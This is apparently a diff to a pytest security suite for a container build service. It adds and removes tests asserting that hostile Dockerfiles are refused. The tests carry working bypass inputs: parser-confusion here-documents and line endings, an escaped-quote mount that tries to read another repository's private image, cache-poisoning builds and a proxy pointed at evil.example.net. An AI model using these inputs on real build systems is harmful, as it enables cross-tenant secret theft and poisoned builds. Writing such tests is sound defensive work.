@@ -1,4 +1,4 @@
-"""Attacks on builds, with a real engine and registry: what they fetch, and what they take from each other."""
+"""Attacks on builds, with a real engine and registry: what they fetch, and whose images they use."""
 
 import asyncio
 import contextlib
@@ -60,6 +60,14 @@ FETCHES = {
         Reason.SOURCE_REFUSED,
     ),
     "a here-document that is none": ("FROM {base}\nRUN <<E true\nADD {url}/x /x\nE\n", Reason.SOURCE_REFUSED),
+    "a name that versions read differently": (
+        "FROM scratch\nENV B={url}/x\nRUN <<E-F\nENV B=local\nE-F\nADD $B /x",
+        Reason.DOCKERFILE_INVALID,
+    ),
+    "a line that versions end differently": (
+        "FROM scratch\nADD \\\r\r\n{url}/x /x",
+        Reason.DOCKERFILE_INVALID,
+    ),
     "the end of a long file": (f"FROM scratch\n{'# long' * 5000}\nADD {{url}}/x /x", Reason.SOURCE_REFUSED),
     "git": ("FROM scratch\nADD git://{host}/a.git /x", Reason.SOURCE_REFUSED),
     "a frontend": ("# syntax={host}/evil:1\nFROM scratch", Reason.FRONTEND_REFUSED),
@@ -124,76 +132,6 @@ async def test_the_variables_of_a_base_image_do_not_replace_an_argument(
     assert listener.visits == []
 
 
-MOUNT = "--mount=type=cache,{mount}target=/cache"
-FILL = "FROM {{base}}\nENV NEW={new}\nRUN " + MOUNT + " echo POISONED > /cache/wheel; echo {new}"
-LINE = "RUN " + MOUNT + " cat /cache/wheel 2>/dev/null || echo clean"
-VICTIM_TEXT = "FROM {{base}}\nENV ONLY={new}\n" + LINE
-
-
-@pytest.mark.parametrize("mount", ["id=pip-{new},", ""], ids=["a name", "the target"])
-@pytest.mark.parametrize(
-    ("attacker", "victim"),
-    [
-        ({"repo": SHOP}, {"repo": VICTIM}),
-        ({"repo": SHOP, "trusted": False}, {"repo": SHOP}),
-        ({"repo": SHOP}, {"repo": SHOP, "trusted": False}),
-        ({"trusted": False, "number": 1}, {"trusted": False, "number": 2}),
-        ({"repo": SHOP, "args": {"BUILDKIT_CACHE_MOUNT_NS": "{space}/team/victim"}}, {"repo": VICTIM}),
-    ],
-    ids=["repository", "stranger writes", "stranger reads", "two strangers", "a namespace of its choice"],
-)
-async def test_a_cache_mount_is_not_shared_with(
-    bench: Bench, mount: str, attacker: dict[str, object], victim: dict[str, object]
-) -> None:
-    new = uuid.uuid4().hex
-    mount = mount.format(new=new).replace("id=,", "") or f"uid={int(new[:4], 16)},"
-    chosen = {"BUILDKIT_CACHE_MOUNT_NS": f"{bench.instance}/team/victim"}
-    args = {"args": chosen} if "args" in attacker else {}
-    fill, read = (text.format(mount=mount, new=new) for text in (FILL, VICTIM_TEXT))
-    await bench.build(fill, **{**attacker, **args})  # type: ignore[arg-type] # as given
-    log = await bench.build(read, **victim)  # type: ignore[arg-type] # as given
-    assert "POISONED" not in log
-    assert "clean" in log
-
-
-async def test_a_cache_mount_is_kept_for_the_repository_itself(bench: Bench) -> None:
-    new = uuid.uuid4().hex
-    fill, read = (text.format(mount=f"id={new},", new=new) for text in (FILL, VICTIM_TEXT))
-    await bench.build(fill, number=1)
-    assert "POISONED" in await bench.build(read, number=2)
-
-
-async def test_an_id_cannot_name_the_cache_of_another_repository(bench: Bench) -> None:
-    new = uuid.uuid4().hex
-    inner = f"id={bench.instance}/team/victim/{new},"
-    await bench.build(FILL.format(mount=inner, new=new))
-    log = await bench.build(VICTIM_TEXT.format(mount=f"id={new},", new=new), repo=VICTIM)
-    assert "clean" in log
-
-
-async def test_a_poisoned_layer_does_not_reach_another_repository(bench: Bench) -> None:
-    new = uuid.uuid4().hex
-    line = LINE.format(mount=f"id={new},", new=new)
-    ordinary = f"FROM {{base}}\nENV SAME={new}\n{line}\nRUN true"
-    await bench.build(FILL.format(mount=f"id={new},", new=new))
-    assert "POISONED" in await bench.build(ordinary)
-    log = await bench.build(ordinary, repo=VICTIM)
-    assert "clean" in log
-    assert "POISONED" not in log
-    (step,) = [line.split()[0] for line in log.splitlines() if "cat /cache/wheel" in line]
-    assert f"{step} CACHED" not in log.splitlines(), "lines of other steps may come in between"
-
-
-async def test_a_layer_that_a_proxy_filled_does_not_reach_another_repository(bench: Bench) -> None:
-    text = f'FROM {{base}}\nENV SAME={uuid.uuid4().hex}\nRUN echo "got ${{http_proxy:-nothing}}"\n'
-    poisoned = await bench.build(text, args={"http_proxy": "http://evil.example.net"})
-    assert "got http://evil.example.net" in poisoned
-    log = await bench.build(text, repo=VICTIM)
-    assert "got nothing" in log
-    again = await bench.build(text, args={"http_proxy": "http://evil.example.net"})
-    assert "CACHED" in again, "the repository itself has a cache"
-
-
 @pytest.fixture
 async def private(bench: Bench, sdk: docker.DockerClient) -> AsyncIterator[str]:
     """Push the victim's preview, whose source is a secret, and provide its name."""
@@ -219,6 +157,7 @@ async def private(bench: Bench, sdk: docker.DockerClient) -> AsyncIterator[str]:
         "FROM {base} AS a\nRUN --mount=from=a,from={image},target=/x cat /x/source",
         "FROM {base}\nRUN --mount=type=tmpfs,target=/\u00e0--mount=from={image},target=/x cat /x/source",
         "FROM {base}\nRUN --mount=type=tmpfs,target=/\u00c5--mount=from={image},target=/x cat /x/source",
+        "# escape=`\nFROM {base}\nRUN \\\nRUN --mount=target=/\\' --mount=from={image},target=/x cat /x/*",
     ],
     ids=[
         "FROM",
@@ -231,6 +170,7 @@ async def private(bench: Bench, sdk: docker.DockerClient) -> AsyncIterator[str]:
         "a mount that names two",
         "a mount after a blank in a flag",
         "a mount after another blank in a flag",
+        "a mount after an escaped quote in a flag",
     ],
 )
 async def test_the_private_preview_of_another_repository_cannot_be_used(
@@ -278,6 +218,10 @@ async def test_a_variable_that_buildkit_sets_names_no_image(
     except ChatOpsError as error:
         log = error.log
     assert SECRET not in log
+
+
+async def test_the_private_preview_of_another_repository_is_no_platform(bench: Bench, private: str) -> None:
+    await bench.refused("FROM $TARGETARCH", Reason.IMAGE_REFUSED, args={"TARGETARCH": private})
 
 
 @pytest.mark.parametrize("head", ["ARG BUILDKIT_CACHE_MOUNT_NS", "ARG TARGETPLATFORM", "ENV X=x"])
